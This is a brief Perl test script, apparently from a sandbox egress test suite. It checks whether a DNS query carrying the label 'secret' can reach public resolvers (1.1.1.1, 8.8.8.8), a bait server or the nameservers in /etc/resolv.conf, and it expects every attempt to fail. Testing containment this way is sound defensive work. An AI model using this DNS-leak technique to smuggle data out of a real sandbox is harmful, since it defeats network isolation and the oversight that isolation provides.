# name: Leak by DNS
# tries: names sent to public resolvers and to the ones in resolv.conf
# expect: fails
# control: user
my @servers = ($ENV{BAIT_ADDRESS}, "1.1.1.1", "8.8.8.8", "127.0.0.53", "127.0.0.11");
if (open my $file, "<", "/etc/resolv.conf") { push @servers, map { /^nameserver\s+([\d.]+)/ ? $1 : () } <$file> }
for my $server (@servers) {
    socket(my $datagram, AF_INET, SOCK_DGRAM, 0) or held("socket: $!");
    my $port = $server eq $ENV{BAIT_ADDRESS} ? $ENV{BAIT_UDP} : 53;
    next if !connect $datagram, pack_sockaddr_in($port, inet_aton($server));
    my $query = pack("n6", 1, 0x100, 1, 0, 0, 0) . "\6secret\7invalid\0" . pack("n2", 1, 1);
    send $datagram, $query, 0;
    breach("a query left for $server") if $server !~ /^127/;
    my $ready = ""; vec($ready, fileno $datagram, 1) = 1;
    breach("$server answers") if select($ready, undef, undef, 0.05) && defined recv $datagram, my $answer, 512, 0;
}
held("no query leaves");
